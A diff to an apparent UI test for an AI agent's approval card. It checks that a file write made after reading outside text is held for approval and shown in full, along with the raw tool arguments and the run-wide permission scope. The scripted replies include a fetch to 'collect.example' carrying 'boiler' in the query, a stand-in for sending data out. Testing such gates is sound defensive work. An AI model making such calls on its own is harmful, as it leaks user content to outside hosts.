@@ -21,7 +21,7 @@ test('B2 S2 B3 a write after outside text is asked and shown whole; “for this 
 	const chat = await openChat({
 		replies: [
 			calls('read_file', { path: 'letter.md' }),
-			calls('write_file', { path: 'answer.md', content: 'Dear landlord, the boiler suits me.' }),
+			calls('write_file', { path: 'answer.md', content: 'Dear landlord,\n\nthe boiler suits me.' }),
 			calls('write_file', { path: 'list.md', content: 'Boiler: done.' }),
 			calls('fetch_url', { url: 'https://collect.example/?q=boiler' }),
 			says('Both are written.'),
@@ -37,8 +37,13 @@ test('B2 S2 B3 a write after outside text is asked and shown whole; “for this 
 	const touches = card.getByRole('region', { name: 'What it will touch' });
 	await touches.getByText('workspace/answer.md').waitFor();
 	await card.getByRole('region', { name: 'What it had read' }).getByText('workspace/letter.md').waitFor();
-	await card.getByText('"Dear landlord, the boiler suits me."').waitFor();
-	await card.getByText(/“For this run” lets it, until the run ends: files of workspace\/ and sandboxed commands there/).waitFor();
+	await card.getByText('Dear landlord,\n\nthe boiler suits me.', { exact: true }).waitFor();
+	await card.getByText(/“Approve for this run” also allows, without asking, until this run ends: files of workspace\/ and/).waitFor();
+	await card.getByText('It changes a file, and this reply has read text that came from outside.').waitFor();
+	// B3: all that a yes is bound to can be seen, letter by letter.
+	await card.getByText('As the tool gets it').click();
+	await card.getByText('"mode": "replace"').waitFor();
+	await card.getByText('As the tool gets it').click();
 	expect(existsSync(join(workspace, 'answer.md'))).toBe(false);
 	await look(chat, 'asked');
 	await page.setViewportSize({ width: 640, height: 900 });
@@ -57,7 +62,7 @@ test('B2 S2 B3 a write after outside text is asked and shown whole; “for this 
 	await page
 		.getByRole('region', { name: 'Inbox list' })
 		.getByRole('button')
-		.filter({ hasText: /Fetch|page/i })
+		.filter({ hasText: 'Fetches https://collect.example/?q=boiler' })
 		.first()
 		.click();
 	await touches.getByText('https://collect.example/?q=boiler').waitFor();
